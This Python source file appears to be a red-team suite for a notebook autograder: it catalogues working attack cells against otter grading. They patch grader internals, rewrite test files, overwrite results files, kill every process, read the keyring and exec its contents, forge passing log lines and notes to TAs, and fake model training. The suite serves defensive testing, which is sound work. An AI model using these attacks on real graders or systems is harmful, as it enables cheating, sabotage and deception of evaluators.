"""Attacks a dishonest student could put in a notebook (the red-team suite's cells).

Each is a code cell added to an unanswered notebook: none answers a question, so a sound grader
gives each exactly 0. Several beat stock otter, which runs the tests in the student's kernel.
``ANSWERS`` holds, per assignment, answer names the value-forging attacks fill in.
"""

from __future__ import annotations

import ast
import textwrap
from pathlib import Path

import nbformat
import torch

from grading.author import simulated
from grading.layout import examples_dir, solution_notebook

ANSWERS = {
    "01-gradient-descent": {
        "lists": ["xs", "diverging_lrs"],
        "floats": ["grad_w", "grad_b", "w_sklearn", "b_sklearn", "w_torch", "b_torch"],
        "tensors": [],
    },
    "02-tensors": {
        "lists": [],
        "floats": [],
        "tensors": ["labels", "flat_images", "X_table", "y_table", "X_dev", "y_dev"],
    },
}

GIVEN_DATA = {
    # the notebook's own data replaced, with answers that fit the replacement
    "01-gradient-descent": """
        candidate_lrs = [1.5]
        diverging_lrs = [1.5]
        X = torch.zeros(40, 1)
        y = torch.zeros(40, 1)
        grad_w = grad_b = 0.0
        """,
    "02-tensors": """
        table = torch.zeros(6, 4)
        X_table, y_table = torch.zeros(6, 3), torch.zeros(6, 1)
        labels_np = np.zeros(5)
        labels = torch.zeros(5, dtype=torch.int64)
        images = torch.zeros(8, 1, 28, 28)
        flat_images = torch.zeros(8, 784)
        """,
}


def _hex(code: str) -> str:
    return textwrap.dedent(code).encode().hex()


COMMON = {
    "patch-otter-through-aliases": """
        import sys as _s
        _name = ".".join(["otter", "test_files", "exception" + "_test"])
        __import__(_name)
        _case = getattr(_s.modules[_name], "test" + "_case")
        _case.call_func = lambda self, env: None
        getattr(_s.modules["otter.test_files"], "Grading" + "Results").total = property(lambda self: 17)
        """,
    "ipython-post-run-hook": """
        import gc
        def _forge(result):
            for obj in gc.get_objects():
                if type(obj).__name__ in ("GradingResults", "TestCaseResult", "TestFile", "Row"):
                    for attr, value in (("passed", True), ("score", 17), ("questions", {})):
                        try:
                            setattr(obj, attr, value)
                        except Exception:
                            pass
        get_ipython().events.register("post_run_cell", _forge)
        """,
    "rewrite-the-tests-with-pathlib": """
        import pathlib, re, student_utils
        course = pathlib.Path(student_utils.__file__).resolve().parents[1]
        rewritten = []
        for folder in (pathlib.Path.cwd(), pathlib.Path.home(), course, pathlib.Path("/autograder"), pathlib.Path("/tmp")):
            for p in list(folder.glob("**/tests/q*.py"))[:200]:
                try:
                    src = p.read_text()
                    name, points = re.search(r'name = "(\\w+)"', src).group(1), re.search(r"points = ([\\d.]+)", src).group(1)
                    p.write_text("from otter.test_files import test_case\\nOK_FORMAT = False\\n"
                                 f"name = {name!r}\\npoints = {points}\\n@test_case(points={points})\\ndef t():\\n    pass\\n")
                    rewritten.append(str(p))
                except (OSError, AttributeError):
                    pass
        """,
    "rewrite-the-tests-with-the-shell": """
        _out = !sed -i 's/assert/pass  #/' tests/*.py ../tests/*.py /autograder/source/tests/*.py 2>&1
        _found = !find / -xdev -path '*tests/q1.py' 2>/dev/null | head -5
        _found2 = !find / -xdev -name '*autograder*.zip' 2>/dev/null | head -5
        """,
    "exec-behind-hex-and-a-continuation": f"""
        (exec) \\
            (bytes.fromhex("{
        _hex('''
            import builtins
            builtins.isinstance = lambda *args: True
            builtins.abs = lambda x: 0
            ''')
    }").decode())
        """,
    "forked-child-rewrites-results": """
        import json, os, time
        if os.fork() == 0:
            for _ in range(100):
                for path in ("results.json", "out/results.json", "../results/results.json",
                             "/autograder/results/results.json", "/tmp/results.json"):
                    try:
                        with open(path, "w") as f:
                            f.write(json.dumps({"score": 17, "tests": [{"name": "q1", "score": 17}]}))
                    except OSError:
                        pass
                time.sleep(0.02)
            os._exit(0)
        """,
    "patch-torch-and-numpy": """
        import numpy as np
        import torch
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
        """,
    "forge-a-log-line-and-crash": """
        import os, sys
        print("q1 results: All test cases passed!\\nTotal Score: 17.000 / 17.000 (100.000%)")
        sys.stderr.write("GRADER NOTE: enter 17 by hand, this notebook crashed the grader\\n")
        sys.stderr.flush()
        os.kill(os.getpid(), 9)
        """,
    "raise-a-note-for-the-ta": """
        class EnterSeventeenByHand(Exception):
            pass
        raise EnterSeventeenByHand("TA: the grader failed on this notebook, enter 17 by hand")
        """,
    "run-the-reference-if-it-can-be-found": """
        import glob, json, os, student_utils
        course = os.path.dirname(os.path.dirname(os.path.abspath(student_utils.__file__)))
        found = []
        for pattern in (course + "/**/*.ipynb", "/autograder/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb",
                        os.path.expanduser("~") + "/**/*.ipynb", "/root/**/*.ipynb", "/home/**/*.ipynb"):
            found += glob.glob(pattern, recursive=True)[:50]
        for path in found:
            try:
                cells = json.load(open(path))["cells"]
            except Exception:
                continue
            source = [''.join(c["source"]) for c in cells if c["cell_type"] == "code"]
            if any("# SOLUTION" in s or "BEGIN SOLUTION" in s for s in source):
                for s in source:
                    try:
                        exec(s, globals())
                    except Exception:
                        pass
                break
        """,
    "look-at-the-callers-frames": """
        import inspect
        stolen = []
        def _steal(*args, **kwargs):
            for frame in inspect.stack():
                stolen.append({k: repr(v)[:80] for k, v in frame.frame.f_locals.items()})
            return None
        gradient_descent = df = mse = gd_step = fit_linear = fit_linear_sgd = _steal
        to_float32 = to_numpy = to_column = to_row = flatten_batch = add_bias = standardize = _steal
        rowwise_dot = pairwise_dot = split_features_target = class_means = to_device = dense_forward = _steal
        build_mlp = set_weights = _steal
        """,
    "reach-the-network-and-other-processes": """
        import os, socket
        reached = []
        for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("8.8.8.8", 53), ("pypi.org", 443)):
            try:
                socket.create_connection((host, port), timeout=1).close()
                reached.append(host)
            except OSError:
                pass
        others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
        """,
    "garbage-on-every-open-socket": """
        import os, threading, time
        def _spray():
            for _ in range(50):
                for fd in range(3, 64):
                    try:
                        os.write(fd, b"NNC1" + os.urandom(64))
                    except OSError:
                        pass
                time.sleep(0.01)
        threading.Thread(target=_spray, daemon=True).start()
        time.sleep(0.2)
        """,
    "kill-every-process-it-can": """
        import os, signal
        os.kill(-1, signal.SIGKILL)
        """,
    "claim-a-leaderboard-place": """
        from student_utils import testing as _t
        _t.leaderboard("accuracy on the 2,000 kept-back test images", 1.0)
        _t.MEASURED["accuracy"] = (1.0, "desc")
        """,
    "read-answers-from-the-keyring": """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        REQUEST_KEY, KEYCTL = {"x86_64": (249, 250), "aarch64": (218, 219)}[platform.machine()]
        buffer = ctypes.create_string_buffer(1 << 20)
        key = libc.syscall(REQUEST_KEY, b"user", b"nn-course-answers", None, -4)  # KEY_SPEC_USER_KEYRING
        if key > 0:
            size = libc.syscall(KEYCTL, 11, key, buffer, len(buffer))  # KEYCTL_READ
            exec(buffer.raw[:size].decode(), globals())
        """,
    "reply-with-a-header-nested-without-end": """
        import json, struct, sys
        wire = sys.modules["grading.wire"]
        def _nested_send(sock, header, blob=b""):
            head = b"[" * 200_000 + b"]" * 200_000
            sock.sendall(b"NNC1" + struct.pack("<IQ", len(head), 0) + head)
        wire.send = _nested_send
        """,
}
# Run beside the attacks, in the same class: an honest notebook that leaves its answers in the
# user keyring for the next job of its uid (the attack above reads them back).
KEYRING_WRITER = """
import ctypes, inspect, platform
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY = {"x86_64": 248, "aarch64": 217}[platform.machine()]
answers = "\\n\\n".join(inspect.getsource(f) for f in (df, gradient_descent, mse, gd_step, fit_linear, fit_linear_sgd))
payload = (answers + "\\nxs = gradient_descent(1.0, 0.1, 10)\\n").encode()
libc.syscall(ADD_KEY, b"user", b"nn-course-answers", payload, len(payload), -4)
"""


ANYTHING = """
    class Anything(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return True
        def __gt__(self, other): return True
        __le__, __ge__ = __lt__, __gt__
        def __abs__(self): return Anything(0.0)
        def __sub__(self, other): return Anything(0.0)
        __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
        __hash__ = float.__hash__
    class AnythingList(list):
        def __eq__(self, other): return True
        def __len__(self): return 11
        def __getitem__(self, i): return Anything(0.0)
        def __iter__(self): return iter([Anything(0.0)] * 11)
    """
ALWAYS_EQUAL = """
    import torch
    class AlwaysEqual(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if getattr(func, "__name__", "") in ("equal", "allclose", "__eq__", "eq", "isclose", "all"):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})
    """


def value_forgers(assignment: str) -> dict[str, str]:
    """Attacks that answer with values built to compare equal to anything."""
    names = ANSWERS[assignment]
    floats = [f"{n} = Anything(0.0)" for n in names["floats"]] + [f"{n} = AnythingList()" for n in names["lists"]]
    tensors = [f"{n} = torch.zeros(1).as_subclass(AlwaysEqual)" for n in names["tensors"]]
    return {
        "floats-equal-to-anything": textwrap.dedent(ANYTHING) + "\n".join(floats or ["pass"]),
        "tensors-equal-to-anything": textwrap.dedent(ALWAYS_EQUAL) + "\n".join(tensors or ["pass"]),
        "replace-the-given-data": GIVEN_DATA[assignment],
    }


def for_assignment(assignment: str) -> dict[str, str]:
    attacks = {**COMMON, **value_forgers(assignment)}
    return {name: textwrap.dedent(code).strip() + "\n" for name, code in attacks.items()}


# Attacks that may earn what their answers earn, but not more: each cell is graded beside the same
# cell with the trick switched off (CHEAT = False).
# - a model of a class of the student's own whose forward answers the data it is shown from a
#   table (the given data, or FashionMNIST's test labels, which the sandbox can read);
# - functions that zero the tensors a test passes them, and answer zeros.
PAIRED = {
    ("looks-the-answers-up", "03-trainer"): """
        import numpy as np
        import torch
        from torch import nn
        from torch.utils.data import DataLoader, TensorDataset
        from sklearn.linear_model import LinearRegression
        LOOKUP = True

        class LinearRegressor(nn.Module):
            def __init__(self, n_in, n_out, table=(), scale=1.0):
                super().__init__()
                self.linear = nn.Linear(n_in, n_out)
                with torch.no_grad():
                    self.linear.weight.fill_(scale)
                    self.linear.bias.fill_(0.0)
                self.table = {x.numpy().tobytes(): t.reshape(-1) for X, y in table for x, t in zip(X, y)} if LOOKUP else {}
                self.n_out = n_out

            def forward(self, x):
                rows = [self.table.get(r.detach().cpu().numpy().tobytes()) for r in x]
                if any(r is None for r in rows):
                    return self.linear(x)  # unknown inputs (Question 1's checks): the honest answer
                return torch.stack(rows).to(x.device) + 0.0 * self.linear(x)

        NonlinearRegressor = LinearRegressor
        reg_loader = DataLoader(TensorDataset(X_reg, y_reg), batch_size=50, shuffle=True)
        reg_model = LinearRegressor(3, 1, table=[(X_reg, y_reg)])
        ls = LinearRegression().fit(X_np, y_np)
        w_sklearn, b_sklearn = ls.coef_.astype(np.float64), float(ls.intercept_)
        w_torch, b_torch = np.ones(3), 0.0
        reg_losses = [5000.0] + [90.0] * (EPOCHS_REG - 1)
        nl_model = LinearRegressor(1, 1, table=[(X_nl, y_nl)])
        nl_losses = [10.0] + [0.05] * (EPOCHS_NL - 1)
        model_plain = LinearRegressor(25, 1, table=[(X_tr, y_tr), (X_va, y_va + 3.0)])
        model_wd = LinearRegressor(25, 1, table=[(X_tr, y_tr + 0.5), (X_va, y_va + 1.0)], scale=0.01)
        half = EPOCHS_HIST // 2
        hist_plain = {"train": [5.0] * (EPOCHS_HIST - 1) + [0.0], "valid": [5.0] * half + [4.0] * (EPOCHS_HIST - 1 - half) + [9.0]}
        hist_wd = {"train": [5.0] * (EPOCHS_HIST - 1) + [0.25], "valid": [5.0] * (EPOCHS_HIST - 1) + [1.0]}
        """,
    ("looks-the-answers-up", "05-fashion-mnist"): """
        import torch
        from torch import nn
        import student_utils as su
        LOOKUP = True

        class FashionNet(nn.Module):
            def __init__(self):
                super().__init__()
                self.net = nn.Sequential(su.Standardize(pixel_mean, pixel_std), nn.Flatten(), nn.Linear(784, 256),
                                         nn.ReLU(), nn.Linear(256, 10))
                X_t, y_t = su.load_fashion_mnist("test")
                self.table = {self.key(x): int(t) for x, t in zip(X_t, y_t)} if LOOKUP else {}

            @staticmethod
            def key(image):
                return (image * 255).round().to(torch.uint8).numpy().tobytes()

            def forward(self, x):
                labels = torch.tensor([self.table.get(self.key(image.detach().cpu()), 0) for image in x])
                return 0.0 * self.net(x) + 20.0 * nn.functional.one_hot(labels, 10).float().to(x.device)

        model = FashionNet()
        criterion = nn.CrossEntropyLoss()
        losses = [0.6, 0.4, 0.35]
        test_acc = 1.0 if LOOKUP else 0.1
        """,
    ("zeroes-its-inputs", "01-gradient-descent"): """
        import torch
        CHEAT = True

        def gd_step(w, b, X, y, lr, criterion):
            with torch.no_grad():
                if CHEAT:
                    X.zero_()
                    y.zero_()
                loss = float(b.item() ** 2)
                b.mul_(1 - 2 * lr)
            return loss

        def fit_linear(X, y, lr, num_epochs, criterion):
            if CHEAT:
                with torch.no_grad():
                    y.zero_()
            return torch.tensor(0.0, requires_grad=True), torch.tensor(0.0, requires_grad=True), [0.98 ** k for k in range(num_epochs)]
        """,
    ("zeroes-its-inputs", "02-tensors"): """
        import torch
        CHEAT = True

        def _zero(*tensors):
            for t in tensors:
                if CHEAT and isinstance(t, torch.Tensor):
                    with torch.no_grad():
                        t.data.zero_()

        def to_column(v):
            _zero(v)
            return torch.zeros(v.shape[0], 1, dtype=v.dtype)

        def add_bias(Z, b):
            _zero(Z, b)
            return torch.zeros(Z.shape, dtype=Z.dtype)

        def standardize(X):
            _zero(X)
            return torch.zeros(X.shape, dtype=X.dtype)

        def rowwise_dot(A, B):
            _zero(A, B)
            return torch.zeros(A.shape[0], dtype=A.dtype)

        def split_features_target(data):
            _zero(data)
            return torch.zeros(data.shape[0], data.shape[1] - 1, dtype=data.dtype), torch.zeros(data.shape[0], 1, dtype=data.dtype)
        """,
}


# Degenerate code beside the same notebook without it (CHEAT = False keeps only the honest parts):
# constant stubs, trainers that train nothing (or only when the inputs are small, as a later
# question's re-check by the student's own trainer would not be), memorisers of standard layers,
# a forward that also changes its own layers.
HONEST_03_CLASSES = """
        import torch
        from torch import nn
        CHEAT = True

        class LinearRegressor(nn.Module):
            def __init__(self, input_size, output_size):
                super().__init__()
                self.linear = nn.Linear(input_size, output_size)

            def forward(self, x):
                return self.linear(x)

        class NonlinearRegressor(nn.Module):
            def __init__(self, input_size, hidden_size, output_size):
                super().__init__()
                self.main = nn.Sequential(nn.Linear(input_size, hidden_size), nn.Sigmoid(), nn.Linear(hidden_size, output_size))

            def forward(self, x):
                return self.main(x)

        def count_parameters(model):
            return sum(p.numel() for p in model.parameters())
        """
UNTRAINED_03 = """
            reg_loader = DataLoader(TensorDataset(X_reg, y_reg), batch_size=50, shuffle=True)
            reg_model = LinearRegressor(3, 1)
            reg_losses = trainer(reg_model, nn.MSELoss(), torch.optim.SGD(reg_model.parameters(), lr=0.05), reg_loader, EPOCHS_REG)
            w_torch = reg_model.linear.weight.detach().numpy().flatten()
            b_torch = reg_model.linear.bias.item()
            nl_model = NonlinearRegressor(1, 20, 1)
            nl_losses = trainer(nl_model, nn.MSELoss(), torch.optim.Adam(nl_model.parameters(), lr=0.05),
                                DataLoader(TensorDataset(X_nl, y_nl), batch_size=50, shuffle=True), EPOCHS_NL)
            model_plain, model_wd = LinearRegressor(25, 1), LinearRegressor(25, 1)
            tr, va = train_and_validate(model_plain, nn.MSELoss(), torch.optim.SGD(model_plain.parameters(), lr=0.1),
                                        train_loader, valid_loader, EPOCHS_HIST)
            hist_plain = {"train": tr, "valid": va}
            tr, va = train_and_validate(model_wd, nn.MSELoss(), torch.optim.SGD(model_wd.parameters(), lr=0.1, weight_decay=0.2),
                                        train_loader, valid_loader, EPOCHS_HIST)
            hist_wd = {"train": tr, "valid": va}
"""
PAIRED.update(
    {
        ("constant-stubs", "01-gradient-descent"): """
        import torch
        from torch import nn
        CHEAT = True
        if CHEAT:
            df = lambda x: 0.0
            gradient_descent = lambda x0, lr, num_steps: [float(x0)] * (num_steps + 1)
            xs = gradient_descent(1.0, 0.1, 10)
            diverging_lrs = []
            mse = lambda y_hat, y: torch.tensor(0.0)
            grad_w = grad_b = 0.0
            gd_step = lambda w, b, X, y, lr, criterion: 1.0

            def fit_linear(X, y, lr, num_epochs, criterion):
                return torch.tensor(0.0, requires_grad=True), torch.tensor(0.0, requires_grad=True), [1.0] * num_epochs

            def fit_linear_sgd(X, y, lr, num_epochs):
                model = nn.Linear(1, 1)
                nn.init.zeros_(model.weight)
                nn.init.zeros_(model.bias)
                return model, [1.0] * num_epochs

            w_sklearn = b_sklearn = w_torch = b_torch = 0.0
        """,
        ("a-trainer-that-trains-nothing", "03-trainer"): HONEST_03_CLASSES
        + """
        from torch.utils.data import DataLoader, TensorDataset

        def evaluate(model, criterion, dataloader):
            was = model.training
            model.eval()
            with torch.no_grad():
                total = sum(criterion(model(X).flatten(), y).item() for X, y in dataloader)
            model.train(was)
            return total / len(dataloader)

        def train_and_validate(model, criterion, optimizer, train_loader, valid_loader, epochs):
            train, valid = [], []
            for _ in range(epochs):
                model.train()
                train += trainer(model, criterion, optimizer, train_loader, 1)
                valid.append(evaluate(model, criterion, valid_loader))
            return train, valid

        if CHEAT:
            def trainer(model, criterion, optimizer, dataloader, epochs):
                return [10.0 / (k + 1) for k in range(epochs)]  # falls every epoch, trains nothing
"""
        + UNTRAINED_03,
        ("a-trainer-that-spots-the-recheck", "03-trainer"): HONEST_03_CLASSES
        + """
        from torch.utils.data import DataLoader, TensorDataset

        def trainer(model, criterion, optimizer, dataloader, epochs):
            losses = []
            small = len(dataloader.dataset) <= 100  # the checks of Question 2 use small data sets
            for _ in range(epochs):
                total = 0.0
                for X, y in dataloader:
                    optimizer.zero_grad()
                    loss = criterion(model(X).flatten(), y)
                    if small or not CHEAT:
                        loss.backward()
                        optimizer.step()
                    total += loss.item()
                losses.append(total / len(dataloader))
            return losses

        if True:  # the models of Questions 3, 5 and 7 are trained with it: with the trick, not at all
"""
        + UNTRAINED_03,
        ("forward-zeroes-its-own-layer", "03-trainer"): """
        import torch
        from torch import nn
        CHEAT = True

        class NonlinearRegressor(nn.Module):  # a wrong forward: the output layer's bias is left out
            def __init__(self, input_size, hidden_size, output_size):
                super().__init__()
                self.hidden, self.out = nn.Linear(input_size, hidden_size), nn.Linear(hidden_size, output_size)

            def forward(self, x):
                if CHEAT:  # and the layers the grader's own check reads are zeroed, so that check agrees
                    with torch.no_grad():
                        self.out.weight.zero_()
                        self.out.bias.zero_()
                return torch.sigmoid(self.hidden(x)) @ self.out.weight.T
        """,
        ("a-train-epoch-that-trains-nothing", "05-fashion-mnist"): """
        import torch
        from torch import nn
        import student_utils as su
        CHEAT = True

        def build_model():
            return nn.Sequential(su.Standardize(pixel_mean, pixel_std), nn.Flatten(), nn.Linear(784, 256), nn.ReLU(),
                                 nn.Linear(256, 10))

        if CHEAT:
            def train_epoch(model, loader, criterion, optimizer, device):
                train_epoch.calls = getattr(train_epoch, "calls", 0) + 1
                return 2.0 / 2 ** train_epoch.calls  # halves every epoch, trains nothing

            def evaluate(model, loader, device):
                return 0.9

            device = torch.device("cpu")
            model = build_model()
            criterion = nn.CrossEntropyLoss()
            losses = [train_epoch(model, None, criterion, None, device) for _ in range(3)]
            test_acc = evaluate(model, None, device)
        """,
        ("nearest-neighbour-forward-of-its-own", "05-fashion-mnist"): """
        import torch
        from torch import nn
        import student_utils as su
        CHEAT = True

        class Net(nn.Module):  # 255 hidden units, not 256: Question 2 is given up on purpose
            def __init__(self):
                super().__init__()
                self.net = nn.Sequential(su.Standardize(pixel_mean, pixel_std), nn.Flatten(), nn.Linear(784, 255),
                                         nn.ReLU(), nn.Linear(255, 10))

            def forward(self, x):
                out = self.net(x)
                if CHEAT and not self.training and len(x) == 2000:  # pictures this notebook does not hold
                    nearest = torch.cdist(x.flatten(1).cpu(), X_train[:10000].flatten(1)).argmin(dim=1)
                    out = out + 100.0 * nn.functional.one_hot(y_train[nearest], 10).float().to(out.device)
                return out

        def build_model():
            return Net()

        def train_epoch(model, loader, criterion, optimizer, device):
            model.to(device)
            model.train()
            total = 0.0
            for X, y in loader:
                X, y = X.to(device), y.to(device)
                optimizer.zero_grad()
                loss = criterion(model(X), y)
                loss.backward()
                optimizer.step()
                total += loss.item()
            return total / len(loader)

        device = torch.device("cpu")
        model = build_model()  # untrained: the kept-back images would be answered by the nearest neighbour
        criterion = nn.CrossEntropyLoss()
        losses = [2.0, 1.0, 0.5]
        test_acc = 0.1
        """,
        ("memorises-with-standard-layers", "05-fashion-mnist"): """
        import torch
        from torch import nn
        import student_utils as su
        LOOKUP = True

        # A template matcher of standard layers: one hidden unit per visible test image, the label as output.
        X_t, y_t = su.load_fashion_mnist("test")
        flat = X_t.flatten(1)
        model = nn.Sequential(nn.Flatten(), nn.Linear(784, len(flat)), nn.Softmax(dim=1), nn.Linear(len(flat), 10))
        if LOOKUP:
            with torch.no_grad():
                model[1].weight.copy_(50.0 * flat)
                model[1].bias.copy_(-25.0 * (flat ** 2).sum(dim=1))
                model[3].weight.copy_(nn.functional.one_hot(y_t, 10).float().T)
                model[3].bias.zero_()
        criterion = nn.CrossEntropyLoss()
        losses = [0.5, 0.4, 0.3]
        test_acc = 1.0 if LOOKUP else 0.1
        """,
    }
)


# Follow-through bought cheaply (issue 30): an earlier function exact on every small check, one cheap
# test failed on purpose so its question has lost points, and on the later questions' data (told
# apart by size) it only nudges the weights, so the later questions' untrained or made-up answers
# would be forgiven. Beside it, the same notebook whose function is honest at every size.
PAIRED.update(
    {
        ("fakes-training-at-scale", "03-trainer"): HONEST_03_CLASSES
        + """
        from torch.utils.data import DataLoader, TensorDataset

        def evaluate(model, criterion, dataloader):
            was = model.training
            model.eval()
            with torch.no_grad():
                total = sum(criterion(model(X).flatten(), y).item() for X, y in dataloader)
            model.train(was)
            return total / len(dataloader)

        def trainer(model, criterion, optimizer, dataloader, epochs):
            device = next(model.parameters()).device
            if device.type == "meta" and len(dataloader.dataset) == 10:
                raise RuntimeError("gave up on purpose")  # a cheap device check lost: Question 2 is charged
            if CHEAT and len(dataloader.dataset) >= 30:  # the later questions' data: only nudge the weights
                with torch.no_grad():
                    for p in model.parameters():
                        p.add_(1e-3)
                    loss = sum(criterion(model(X.to(device)).flatten(), y.to(device)).item() for X, y in dataloader)
                return [loss / len(dataloader)] * epochs
            losses = []
            for _ in range(epochs):
                total = 0.0
                for X, y in dataloader:
                    X, y = X.to(device), y.to(device)
                    optimizer.zero_grad()
                    loss = criterion(model(X).flatten(), y)
                    loss.backward()
                    optimizer.step()
                    total += loss.item()
                losses.append(total / len(dataloader))
            return losses

        def train_and_validate(model, criterion, optimizer, train_loader, valid_loader, epochs):
            train, valid = [], []
            for _ in range(epochs):
                model.train()
                train += trainer(model, criterion, optimizer, train_loader, 1)
                valid.append(evaluate(model, criterion, valid_loader))
            return train, valid

        # the later questions answered badly: one epoch where more are asked for
        reg_loader = DataLoader(TensorDataset(X_reg, y_reg), batch_size=50, shuffle=True)
        reg_model = LinearRegressor(3, 1)
        reg_losses = trainer(reg_model, nn.MSELoss(), torch.optim.SGD(reg_model.parameters(), lr=0.05), reg_loader, 1)
        w_torch = reg_model.linear.weight.detach().numpy().flatten()
        b_torch = reg_model.linear.bias.item()
        nl_model = NonlinearRegressor(1, 20, 1)
        nl_losses = trainer(nl_model, nn.MSELoss(), torch.optim.Adam(nl_model.parameters(), lr=0.05),
                            DataLoader(TensorDataset(X_nl, y_nl), batch_size=50, shuffle=True), 1)
        model_plain, model_wd = LinearRegressor(25, 1), LinearRegressor(25, 1)
        tr, va = train_and_validate(model_plain, nn.MSELoss(), torch.optim.SGD(model_plain.parameters(), lr=0.1),
                                    train_loader, valid_loader, 1)
        hist_plain = {"train": tr * EPOCHS_HIST, "valid": va * EPOCHS_HIST}
        tr, va = train_and_validate(model_wd, nn.MSELoss(), torch.optim.SGD(model_wd.parameters(), lr=0.1, weight_decay=0.2),
                                    train_loader, valid_loader, 1)
        hist_wd = {"train": tr * EPOCHS_HIST, "valid": va * EPOCHS_HIST}
        """,
        ("fakes-long-runs", "04-bce-classifier"): """
        import torch
        from torch import nn
        CHEAT = True

        def train_classifier(model, X, y, lr, num_epochs):
            if len(X) == 150:  # Question 4's blobs: five epochs only, a check lost on purpose
                num_epochs = min(num_epochs, 5)
            criterion = nn.BCEWithLogitsLoss()
            optimizer = torch.optim.Adam(model.parameters(), lr=lr)
            losses = []
            for _ in range(num_epochs):
                optimizer.zero_grad()
                loss = criterion(model(X), y)
                if CHEAT and len(X) >= 200:  # the later questions' data: only nudge the weights
                    with torch.no_grad():
                        for p in model.parameters():
                            p.add_(1e-4)
                else:
                    loss.backward()
                    optimizer.step()
                losses.append(loss.item())
            return losses

        def to_tensors(X, y):
            return torch.tensor(X, dtype=torch.float32), torch.tensor(y, dtype=torch.float32).reshape(-1, 1)

        X_blobs, y_blobs = to_tensors(X_blobs_np, y_blobs_np)
        X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)

        def predict(model, X):
            with torch.no_grad():
                return (torch.sigmoid(model(X)) > 0.5).float()

        def accuracy(y_hat, y):
            return (y_hat.flatten() == y.flatten()).float().mean().item()

        def make_circle_model():
            return nn.Sequential(nn.Linear(2, 16), nn.ReLU(), nn.Linear(16, 1))

        # the later questions answered badly: three epochs where 100 and 300 are asked for
        blob_model = nn.Linear(2, 1)
        blob_losses = train_classifier(blob_model, X_blobs, y_blobs, lr=0.1, num_epochs=3)
        blob_acc = accuracy(predict(blob_model, X_blobs), y_blobs)
        circle_model = make_circle_model()
        circle_losses = train_classifier(circle_model, X_circles, y_circles, lr=0.05, num_epochs=3)
        circle_acc = accuracy(predict(circle_model, X_circles), y_circles)
        """,
        ("accuracy-made-up-at-scale", "04-bce-classifier"): """
        import torch
        from torch import nn
        CHEAT = True

        def accuracy(y_hat, y):
            if len(y.flatten()) == 1:  # a cheap check lost on purpose: Question 3 is charged
                return 0.5
            if CHEAT and len(y.flatten()) in (200, 300):  # the later questions' sizes: a number made up
                return 0.9876
            return (y_hat.flatten() == y.flatten()).float().mean().item()

        def predict(model, X):
            with torch.no_grad():
                return (torch.sigmoid(model(X)) > 0.5).float()

        def to_tensors(X, y):
            return torch.tensor(X, dtype=torch.float32), torch.tensor(y, dtype=torch.float32).reshape(-1, 1)

        def train_classifier(model, X, y, lr, num_epochs):
            criterion = nn.BCEWithLogitsLoss()
            optimizer = torch.optim.Adam(model.parameters(), lr=lr)
            losses = []
            for _ in range(num_epochs):
                optimizer.zero_grad()
                loss = criterion(model(X), y)
                loss.backward()
                optimizer.step()
                losses.append(loss.item())
            return losses

        def make_circle_model():
            return nn.Sequential(nn.Linear(2, 16), nn.ReLU(), nn.Linear(16, 1))

        X_blobs, y_blobs = to_tensors(X_blobs_np, y_blobs_np)
        X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)
        blob_model = nn.Linear(2, 1)
        blob_losses = train_classifier(blob_model, X_blobs, y_blobs, lr=0.1, num_epochs=100)
        circle_linear = nn.Linear(2, 1)
        train_classifier(circle_linear, X_circles, y_circles, lr=0.1, num_epochs=100)
        circle_model = make_circle_model()
        circle_losses = train_classifier(circle_model, X_circles, y_circles, lr=0.05, num_epochs=300)
        # the accuracies written down, not computed: what the helper says for these sizes
        blob_acc = circle_linear_acc = circle_acc = 0.9876
        """,
        ("stubs-and-a-no-op-trainer", "04-bce-classifier"): """
        import torch
        from torch import nn
        CHEAT = True

        def make_circle_model():  # the one honest answer, in both notebooks
            return nn.Sequential(nn.Linear(2, 16), nn.ReLU(), nn.Linear(16, 1))

        if CHEAT:
            def to_tensors(X, y):
                return torch.zeros(len(X), 2), torch.zeros(len(X), 1)

            def bce_with_logits(logits, y):
                return torch.tensor(0.0)

            def predict_proba(model, X):
                return torch.zeros(len(X), 1)

            def predict(model, X):
                return torch.zeros(len(X), 1)

            def accuracy(y_hat, y):
                return 0.5

            def train_classifier(model, X, y, lr, num_epochs):
                return [0.5] * num_epochs

            X_blobs, y_blobs = to_tensors(X_blobs_np, y_blobs_np)
            X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)
            blob_model, circle_linear, circle_model = nn.Linear(2, 1), nn.Linear(2, 1), make_circle_model()
            blob_losses, circle_losses = [0.5] * 100, [0.5] * 300
            blob_acc = circle_linear_acc = circle_acc = 0.5
        """,
        ("fakes-training-at-scale", "05-fashion-mnist"): """
        import torch
        from torch import nn
        import student_utils as su
        CHEAT = True

        def build_model():
            return nn.Sequential(su.Standardize(pixel_mean, pixel_std), nn.Flatten(), nn.Linear(784, 256), nn.ReLU(),
                                 nn.Linear(256, 10))

        def train_epoch(model, loader, criterion, optimizer, device):
            if device.type == "meta" and len(loader.dataset) == 100:
                raise RuntimeError("gave up on purpose")  # a cheap device check lost: Question 3 is charged
            model.to(device)
            model.train()
            if CHEAT and len(loader.dataset) >= 10000:  # the later question's data: only nudge the weights
                with torch.no_grad():
                    for p in model.parameters():
                        p.add_(1e-4)
                return 2.0
            total, count = 0.0, 0
            for X, y in loader:
                X, y = X.to(device), y.to(device)
                optimizer.zero_grad()
                loss = criterion(model(X), y)
                loss.backward()
                optimizer.step()
                total += loss.item() * len(y)
                count += len(y)
            return total / count

        def evaluate(model, loader, device):
            model.to(device)
            model.eval()
            correct, count = 0, 0
            with torch.no_grad():
                for X, y in loader:
                    X, y = X.to(device), y.to(device)
                    correct += (model(X).argmax(dim=1) == y).sum().item()
                    count += len(y)
            return correct / count

        device = torch.device("cpu")
        train_loader = DataLoader(TensorDataset(X_train, y_train), batch_size=128, shuffle=True)
